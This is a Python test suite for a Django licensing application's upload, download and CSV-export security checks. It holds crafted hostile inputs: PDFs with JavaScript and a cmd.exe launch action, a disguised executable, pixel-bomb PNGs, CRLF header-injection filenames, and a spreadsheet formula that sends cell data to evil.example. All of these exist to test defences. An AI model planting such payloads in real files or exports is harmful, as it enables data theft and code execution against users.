"""Uploads are opened by real parsers before they are stored (applications/uploads.py), through the API so the
refusal is the API's JSON; the malware-scan hook against a fake clamd; downloads' Content-Disposition; CSV cells
that cannot run as formulas."""
import csv
import io
import os
import shutil
import socket
import struct
import tempfile
import threading
import zlib
from urllib.parse import unquote

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applications.models import Attachment
from applications.tests.journeys import create, decide, portal_until_registered
from conftest import PDF
from core.csvcells import safe_cell
from core.downloads import content_disposition, served_name
from registry.models import Record, RecordDocument
from registry.tests.helpers import licence

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# -- crafted files -------------------------------------------------------------------------------------------------
def pdf(build=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action_js(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")})


def names_tree_js(writer):
    action = writer._add_object(DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('names');")}))
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("init"), action])})})


def launch(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})


def page_auto_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
        NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://example.com")})})


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_claiming(width: int, height: int) -> bytes:
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + png_chunk(b"IEND", b""))


def jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Inc"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", "secret-author-note")
    out = io.BytesIO()
    Image.new("RGBA", (20, 10), (0, 128, 0, 255)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


@pytest.fixture
def draft(world):
    api = world.api["person"]
    return api, create(api, "S1", "issue")["id"]


def stored(app_id) -> bytes:
    attachment = Attachment.objects.get(application_id=app_id)
    with attachment.file.open("rb") as handle:
        return handle.read()


# -- refusals ------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("content", "name", "content_type", "code"), [
    (pdf(open_action_js), "a.pdf", "application/pdf", "pdf_javascript"),
    (pdf(names_tree_js), "a.pdf", "application/pdf", "pdf_javascript"),
    (pdf(launch), "a.pdf", "application/pdf", "pdf_launch_action"),
    (pdf(page_auto_action), "a.pdf", "application/pdf", "pdf_launch_action"),
    (pdf(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")), "a.pdf", "application/pdf", "pdf_embedded_file"),
    (pdf(lambda w: w.encrypt("secret", algorithm="AES-128")), "a.pdf", "application/pdf", "pdf_encrypted"),
    (b"%PDF-" + b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"This program cannot be run in DOS mode.\r\n"
     + b"PE\x00\x00" + os.urandom(512), "setup.exe", "application/pdf", "pdf_malformed"),
    (png_header_claiming(50000, 50000), "scan.png", "image/png", "image_too_large"),
    (png_header_claiming(20, 20)[:-20], "cut.png", "image/png", "image_malformed"),
    (b"\x89PNG\r\n\x1a\n" + os.urandom(64), "noise.png", "image/png", "image_malformed"),
    (jpeg_with_exif(), "photo.png", "image/png", "file_content_mismatch"),
    (b"MZ\x90\x00", "a.pdf", "application/pdf", "file_content_mismatch"),
    (PDF, "a.exe", "application/x-msdownload", "file_type"),
], ids=["open-action-js", "names-tree-js", "launch", "page-aa", "embedded-file", "encrypted", "pe-after-pdf-header",
        "png-50000x50000", "png-truncated", "png-noise", "jpeg-declared-png", "pe-declared-pdf", "exe-type"])
def test_a_hostile_or_broken_file_is_refused_with_a_stable_code(draft, content, name, content_type, code):
    api, app_id = draft
    error = api.upload(app_id, "application", content=content, name=name, content_type=content_type, expect=422)
    assert error["code"] == code and error["message"] and set(error) == {"code", "message", "details"}
    assert not Attachment.objects.filter(application_id=app_id).exists()


def test_the_pixel_limit_applies_before_decoding_and_pillows_bomb_warning_refuses(draft, settings):
    api, app_id = draft
    settings.ELICENSE_MAX_IMAGE_PIXELS = 1_000_000
    error = api.upload(app_id, "application", content=png_header_claiming(1100, 1000), name="a.png",
                       content_type="image/png", expect=422)
    assert error["code"] == "image_too_large" and " 1 " in error["message"]


def test_a_pdf_over_the_page_limit_is_refused(draft, settings):
    api, app_id = draft
    settings.ELICENSE_PDF_MAX_PAGES = 2
    three = pdf(lambda w: [w.add_blank_page(width=10, height=10) for _ in range(2)])
    assert api.upload(app_id, "application", content=three, expect=422)["code"] == "pdf_too_many_pages"


def test_a_refusal_is_localised(draft):
    api, app_id = draft
    from django.core.files.uploadedfile import SimpleUploadedFile
    for lang, word in (("ru", "JavaScript"), ("kk", "JavaScript"), ("en", "scripts")):
        response = api.client.post(
            f"/api/v1/applications/{app_id}/attachments",
            {"document_code": "application", "file": SimpleUploadedFile("a.pdf", pdf(open_action_js), "application/pdf")},
            HTTP_ACCEPT_LANGUAGE=lang, **api.headers)
        body = response.json()
        assert response.status_code == 422 and body["code"] == "pdf_javascript" and word in body["message"]
        if lang != "en":
            assert "save it again" not in body["message"]


# -- accepted files ------------------------------------------------------------------------------------------------
def test_a_small_valid_pdf_is_stored_as_uploaded(draft):
    api, app_id = draft
    content = pdf()
    out = api.upload(app_id, "application", content=content, name="устав.pdf")
    assert stored(app_id) == content and out["size"] == len(content)


def test_a_jpeg_is_re_encoded_without_its_exif_and_turned_upright(draft):
    api, app_id = draft
    original = jpeg_with_exif()
    api.upload(app_id, "application", content=original, name="photo.jpg", content_type="image/jpeg")
    saved = stored(app_id)
    image = Image.open(io.BytesIO(saved))
    assert saved != original and b"SpyCam" not in saved and b"Exif" not in saved
    assert image.format == "JPEG" and image.size == (48, 64) and not image.getexif()
    attachment = Attachment.objects.get(application_id=app_id)
    assert attachment.original_name == "photo.jpg" and attachment.size == len(saved)


def test_a_png_is_re_encoded_without_its_text_chunks(draft):
    api, app_id = draft
    api.upload(app_id, "application", content=png_with_text(), name="scan.png", content_type="image/png")
    saved = stored(app_id)
    image = Image.open(io.BytesIO(saved))
    assert b"secret-author-note" not in saved and image.format == "PNG" and image.size == (20, 10)
    assert "Comment" not in image.info


# -- the malware scanner -------------------------------------------------------------------------------------------
class FakeClamd:
    """A clamd speaking INSTREAM on a UNIX socket (or TCP): FOUND for the EICAR test string, OK otherwise."""

    def __init__(self, family=socket.AF_UNIX):
        self.folder = tempfile.mkdtemp(prefix="clamd-", dir="/tmp")
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        if family == socket.AF_UNIX:
            self.address = os.path.join(self.folder, "clamd.sock")
            self.sock.bind(self.address)
        else:
            self.sock.bind(("127.0.0.1", 0))
            self.address = f"127.0.0.1:{self.sock.getsockname()[1]}"
        self.sock.listen(4)
        self.scanned: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _read(self, conn, n):
        data = b""
        while len(data) < n:
            more = conn.recv(n - len(data))
            if not more:
                raise ConnectionError("short read")
            data += more
        return data

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                command = b""
                while not command.endswith(b"\0"):
                    command += self._read(conn, 1)
                assert command == b"zINSTREAM\0"
                body = b""
                while (size := struct.unpack(">I", self._read(conn, 4))[0]):
                    body += self._read(conn, size)
                self.scanned.append(body)
                conn.sendall(b"stream: Eicar-Test-Signature FOUND\0" if EICAR in body else b"stream: OK\0")

    def close(self):
        self.sock.close()
        shutil.rmtree(self.folder, ignore_errors=True)


@pytest.fixture(params=[socket.AF_UNIX, socket.AF_INET], ids=["unix", "tcp"])
def clamd(request, settings):
    server = FakeClamd(request.param)
    settings.ELICENSE_MALWARE_SCANNER = "integrations.clamd.scan"
    settings.ELICENSE_CLAMD_SOCKET = server.address
    yield server
    server.close()


def test_the_scanner_sees_the_bytes_and_refuses_what_it_finds(draft, clamd):
    api, app_id = draft
    infected = pdf() + b"%" + EICAR + b"\n"  # a comment after %%EOF: still a readable PDF
    error = api.upload(app_id, "application", content=infected, expect=422)
    assert error["code"] == "malware_found" and error["details"]["signature"] == "Eicar-Test-Signature"
    assert not Attachment.objects.filter(application_id=app_id).exists()
    clean = pdf()
    api.upload(app_id, "application", content=clean)
    assert clamd.scanned == [infected, clean]


def test_a_configured_scanner_that_cannot_be_reached_fails_closed(draft, settings):
    api, app_id = draft
    settings.ELICENSE_MALWARE_SCANNER = "integrations.clamd.scan"
    settings.ELICENSE_CLAMD_SOCKET = f"/tmp/no-such-clamd-{os.getpid()}.sock"
    error = api.upload(app_id, "application", content=pdf(), expect=503)
    assert error["code"] == "scanner_unavailable" and error["message"]
    assert not Attachment.objects.filter(application_id=app_id).exists()


# -- downloads -----------------------------------------------------------------------------------------------------
def _filename_star(header: str) -> str:
    return unquote(header.split("filename*=UTF-8''", 1)[1])


@pytest.mark.parametrize(("uploaded_as", "fallback", "served"), [
    ("setup.exe", "setup.pdf", "setup.pdf"),
    ('evil".pdf"; x=".exe', "evil.pdf x.pdf", "evil.pdf x=.pdf"),
    ("Устав ТОО «Дала».pdf", "document.pdf", "Устав ТОО «Дала».pdf"),
    ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie x_1.pdf", "aSet-Cookie x=1.pdf"),
])
def test_the_portal_download_has_a_safe_name_with_the_stored_types_extension(world, draft, uploaded_as, fallback,
                                                                            served):
    api, app_id = draft
    attachment = api.upload(app_id, "application", content=pdf(), name="doc.pdf")
    Attachment.objects.filter(pk=attachment["id"]).update(original_name=uploaded_as)  # whatever name was stored
    client = Client()
    client.force_login(world.person)
    response = client.get(f"/portal/requests/{app_id}/attachments/{attachment['id']}")
    header = response["Content-Disposition"]
    assert response.status_code == 200 and response["X-Content-Type-Options"] == "nosniff"
    assert header == content_disposition(uploaded_as, "application/pdf")
    assert header.startswith(f'attachment; filename="{fallback}"; filename*=UTF-8\'\'')
    assert _filename_star(header) == served and "\r" not in header and "\n" not in header
    header.encode("latin-1")


def test_the_office_download_and_the_result_pdf_have_the_same_safe_header(world):
    from backoffice.tests.test_pages import office

    app = portal_until_registered(world, world.api["person"], "S1", "issue")
    attachment = Attachment.objects.filter(application_id=app["id"]).first()
    attachment.original_name = 'invoice".exe'
    attachment.save()
    response = office(world.committee_officer).get(f"/office/requests/{app['id']}/attachments/{attachment.pk}")
    assert response.status_code == 200 and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == "attachment; filename=\"invoice.pdf\"; filename*=UTF-8''invoice.pdf"
    app = decide(world.api["committee_officer"], app)
    (doc,) = [d for d in app["documents"] if d["kind"] == "licence"]
    response = world.api["person"]._call("get", f"/applications/{app['id']}/documents/{doc['number']}.pdf")
    assert response["Content-Disposition"] == (
        f"inline; filename=\"{doc['number']}.pdf\"; filename*=UTF-8''{doc['number']}.pdf")  # the portal's "view"


@given(st.text(max_size=80), st.sampled_from(["application/pdf", "image/png", "image/jpeg"]))
def test_any_name_gives_a_header_that_cannot_break_or_run(name, content_type):
    header = content_disposition(name, content_type)
    header.encode("latin-1")
    extension = {"application/pdf": ".pdf", "image/png": ".png", "image/jpeg": ".jpg"}[content_type]
    served = served_name(name, content_type)
    assert served.endswith(extension) and _filename_star(header) == served
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.endswith(extension) and fallback.isascii() and fallback.isprintable()
    assert not any(ch in served for ch in '"\\/\r\n\t\x00') and served.isprintable()
    assert header.count('"') == 2


# -- CSV -----------------------------------------------------------------------------------------------------------
@given(st.text(max_size=40))
def test_no_cell_can_start_a_formula_and_the_text_survives(value):
    cell = safe_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == value or cell == "'" + value
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [cell]


def test_the_registry_export_neutralises_a_formula_in_the_holders_name(world):
    app, number = licence(world)
    # The name the export prints is the current version's holder snapshot (registry.RecordDocument).
    evil = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
    record = Record.objects.get(number=number)
    RecordDocument.objects.filter(pk=record.current_id).update(holder_name=evil)
    content = Client().get("/registry/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    (row,) = [r for r in rows if r and r[0] == number]
    assert row[4] == "'" + evil
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
